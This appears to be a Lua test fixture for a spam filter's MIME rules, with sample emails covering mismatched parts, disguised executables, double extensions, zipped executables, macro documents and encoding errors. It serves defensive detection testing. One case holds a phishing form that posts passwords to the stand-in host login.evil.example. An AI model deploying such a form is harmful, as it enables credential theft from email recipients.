-- MIME rules (rules/mime.lua).
local H = 'From: a@example.org\r\nTo: b@example.net\r\nSubject: t\r\n' ..
  'Message-ID: <m1@example.org>\r\nMIME-Version: 1.0\r\n'

local function multipart(subtype, parts)
  local out = H .. 'Content-Type: multipart/' .. subtype .. '; boundary="BB"\r\n\r\n'
  for _, p in ipairs(parts) do out = out .. '--BB\r\n' .. p .. '\r\n' end
  return out .. '--BB--\r\n'
end

local plain = 'Content-Type: text/plain; charset=utf-8\r\n\r\n' ..
  'Dear customer, your order number 4711 has shipped today and will arrive on Friday. ' ..
  'Track it on our web site. Thank you for shopping with us.'
local html_same = 'Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>' ..
  'Dear customer, your order number 4711 has shipped today and will arrive on Friday. ' ..
  'Track it on our web site. Thank you for shopping with us.</p></body></html>'
local html_other = 'Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>' ..
  'Cheap watches, replica handbags, discount pharmacy, casino bonus, amazing deals ' ..
  'unbelievable prices, hurry limited stock, exclusive members only.</p></body></html>'
-- "MZ" executable header, base64.
local exe_b64 = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAAA='

return {
  cases = {
    { name = 'plain and HTML alternatives that agree', text = multipart('alternative', { plain, html_same }),
      forbid = { 'MIME_HTML_ONLY', 'R_PARTS_DIFFER', 'EMPTY_TEXT_PART', 'EMPTY_MESSAGE' } },
    { name = 'HTML only', text = H .. html_same, expect = { 'MIME_HTML_ONLY' } },
    { name = 'alternatives that disagree', text = multipart('alternative', { plain, html_other }),
      expect = { 'R_PARTS_DIFFER' } },
    { name = 'empty text part next to a real one',
      text = multipart('mixed', { 'Content-Type: text/plain\r\n\r\n   ', plain }),
      expect = { 'EMPTY_TEXT_PART' }, forbid = { 'EMPTY_MESSAGE' } },
    { name = 'empty message', text = H .. 'Content-Type: text/plain\r\n\r\n\r\n',
      expect = { 'EMPTY_MESSAGE' } },
    { name = 'executable attachment by extension', text = multipart('mixed', { plain,
        'Content-Type: application/octet-stream; name="setup.scr"\r\n' ..
        'Content-Disposition: attachment; filename="setup.scr"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\nSGVsbG8=' }),
      expect = { 'MIME_BAD_EXTENSION' }, forbid = { 'MIME_DOUBLE_BAD_EXTENSION' } },
    { name = 'double extension', text = multipart('mixed', { plain,
        'Content-Type: application/octet-stream\r\n' ..
        'Content-Disposition: attachment; filename="invoice.pdf.exe"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\n' .. exe_b64 }),
      expect = { 'MIME_DOUBLE_BAD_EXTENSION', 'MIME_EXE_ATTACHMENT' },
      options = { MIME_DOUBLE_BAD_EXTENSION = { 'invoice.pdf.exe' } } },
    { name = 'executable disguised as a PDF', text = multipart('mixed', { plain,
        'Content-Type: application/pdf\r\n' ..
        'Content-Disposition: attachment; filename="invoice.pdf"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\n' .. exe_b64 }),
      expect = { 'MIME_EXE_ATTACHMENT', 'MIME_BAD_ATTACHMENT' }, forbid = { 'MIME_BAD_EXTENSION' } },
    { name = 'a PDF attachment is fine', text = multipart('mixed', { plain,
        'Content-Type: application/pdf\r\n' ..
        'Content-Disposition: attachment; filename="report.pdf"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoK' }),
      forbid = { 'MIME_BAD_EXTENSION', 'MIME_EXE_ATTACHMENT', 'MIME_BAD_ATTACHMENT' } },
    { name = 'executable inside a ZIP', text = multipart('mixed', { plain,
        'Content-Type: application/zip\r\n' ..
        'Content-Disposition: attachment; filename="Invoice.zip"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAAAFurhl2chvChCAAAAAgAAAAQAAAAaW52b2ljZV8xMDIyLmV4ZU1akABmYWtlUEsBAhQDFAAAAAAAW6uGXZyG8KEIAAAACAAAABAAAAAAAAAAAAAAAIABAAAAAGludm9pY2VfMTAyMi5leGVQSwUGAAAAAAEAAQA+AAAANgAAAAAA' }),
      expect = { 'MIME_BAD_EXTENSION' },
      options = { MIME_BAD_EXTENSION = { 'Invoice.zip/invoice_1022.exe' } } },
    { name = 'a document inside a ZIP is fine', text = multipart('mixed', { plain,
        'Content-Type: application/zip\r\n' ..
        'Content-Disposition: attachment; filename="reports.zip"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAAAFurhl34yZN/DQAAAA0AAAAKAAAAcmVwb3J0LnBkZiVQREYtMS40IGZha2VQSwECFAMUAAAAAABbq4Zd+MmTfw0AAAANAAAACgAAAAAAAAAAAAAAgAEAAAAAcmVwb3J0LnBkZlBLBQYAAAAAAQABADgAAAA1AAAAAAA=' }),
      forbid = { 'MIME_BAD_EXTENSION', 'MIME_DOUBLE_BAD_EXTENSION' } },
    { name = 'macro-enabled Office document', text = multipart('mixed', { plain,
        'Content-Type: application/vnd.ms-word.document.macroEnabled.12\r\n' ..
        'Content-Disposition: attachment; filename="PO_7781.docm"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAIAA==' }),
      expect = { 'MIME_OFFICE_MACRO' }, forbid = { 'MIME_BAD_EXTENSION' } },
    { name = 'a Word document without macros', text = multipart('mixed', { plain,
        'Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n' ..
        'Content-Disposition: attachment; filename="PO_7781.docx"\r\n' ..
        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAIAA==' }),
      forbid = { 'MIME_OFFICE_MACRO' } },
    { name = 'an HTML page attached', text = multipart('mixed', { plain,
        'Content-Type: text/html; name="Document.html"\r\n' ..
        'Content-Disposition: attachment; filename="Document.html"\r\n\r\n<html></html>' }),
      expect = { 'MIME_HTML_ATTACHMENT' } },
    { name = 'multipart/mixed with a single text part', text = multipart('mixed', { plain }),
      expect = { 'CTYPE_MIXED_BOGUS' } },
    { name = 'broken Content-Type', text = H .. 'Content-Type: ;;;\r\n\r\nhello\r\n',
      expect = { 'BROKEN_CONTENT_TYPE' } },
    { name = '8-bit text declared 7bit', text = H ..
        'Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
        'caf\233 cr\232me\r\n', expect = { 'R_BAD_CTE_7BIT' } },
    { name = 'ISO-2022-JP text is 7-bit bytes', text = H ..
        'Content-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
        '\27$B$3$s$K$A$O\27(B\r\n', forbid = { 'R_BAD_CTE_7BIT' } },
    { name = 'plain ASCII declared 7bit', text = H ..
        'Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
        'cafe creme\r\n', forbid = { 'R_BAD_CTE_7BIT' } },
    { name = 'phishing form with a password field', text = H ..
        'Content-Type: text/html\r\n\r\n<form action="http://login.evil.example/p" method="post">' ..
        '<input name="u"><input type="password" name="p"></form>',
      expect = { 'HTML_FORM_PASSWORD' } },
    { name = 'scripts and iframes', text = H ..
        'Content-Type: text/html\r\n\r\n<p>x</p><script>alert(1)</script>' ..
        '<iframe src="http://a.example/"></iframe>',
      expect = { 'HTML_HAS_SCRIPT', 'HTML_HAS_IFRAME' } },
  },
}
